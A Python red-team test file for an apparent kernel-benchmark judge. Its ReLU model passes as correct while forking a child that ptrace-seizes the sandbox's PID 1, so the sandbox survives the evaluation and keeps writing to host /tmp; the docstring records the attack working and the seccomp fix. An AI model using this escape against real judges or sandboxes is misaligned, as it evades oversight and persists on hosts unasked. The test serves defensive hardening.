"""Attack: keep the sandbox's PID namespace alive after the evaluation, forever (19_ReLU).

The judge ends a sandbox by SIGKILLing its first process (PID 1 of its namespace); the kernel
kills the rest of the namespace only when PID 1 reaches the end of its exit. A child that
ptrace-seizes PID 1 with PTRACE_O_TRACEEXIT stops it at the very start of its exit and never
lets it go on: PID 1 keeps its memory and CUDA context, and the child lives on, writing into the
host's /tmp while the judge removes it and after kbv has exited. Where kbv has no cgroup
(not root, or no writable cgroup v2) nothing else ever kills them. Correct ReLU.
Verdict kbv gave: correct, with the child and the stopped PID 1 still alive 14 s after the
launcher's end (reproduced with kbv's launch and kill sequence on kernel 6.18). WORKED.

Found by the red team of the file removal (2026-12-01). Fixed: a seccomp filter in the sandbox
denies ptrace (and process_vm_readv/writev), and the judge waits for PID 1 to exit, so for its
namespace to be empty, before it removes the sandbox's files. kbv must conclude: correct
(honest ReLU), the child refused ("ATTACK ptrace_exit_stop: refused"), no kbv-ptracer process
left, no leftover_ptrace file left.
"""
import ctypes
import os
import time

import torch
import torch.nn as nn

PTRACE_SEIZE = 0x4206
PTRACE_O_TRACEEXIT = 0x40
PR_SET_NAME = 15
WALL = 0x40000000
WNOHANG = 1

_libc = ctypes.CDLL(None, use_errno=True)
_started = False


def _tracer(tmp):
    _libc.prctl(PR_SET_NAME, ctypes.c_char_p(b"kbv-ptracer"), 0, 0, 0)
    if _libc.ptrace(PTRACE_SEIZE, 1, None, ctypes.c_void_p(PTRACE_O_TRACEEXIT)) != 0:
        print("ATTACK ptrace_exit_stop: refused:", os.strerror(ctypes.get_errno()), flush=True)
        os._exit(1)
    print("ATTACK ptrace_exit_stop: PID 1 seized", flush=True)
    status = ctypes.c_int(0)
    for _ in range(12000):  # about two minutes, then give up (the test must not fill a disk)
        _libc.waitpid(1, ctypes.byref(status), WNOHANG | WALL)
        with open(os.path.join(tmp, "leftover_ptrace.log"), "a") as f:
            f.write("still here\n")
        time.sleep(0.01)
    os._exit(0)


def _start():
    global _started
    if _started:
        return
    _started = True
    tmp = os.environ.get("TMPDIR", "/tmp")
    if os.fork() == 0:
        os.setsid()
        try:
            _tracer(tmp)
        finally:
            os._exit(0)


class ModelNew(nn.Module):
    def forward(self, x):
        _start()  # after the device is up in PID 1: its context is what a stopped PID 1 keeps
        return torch.relu(x)
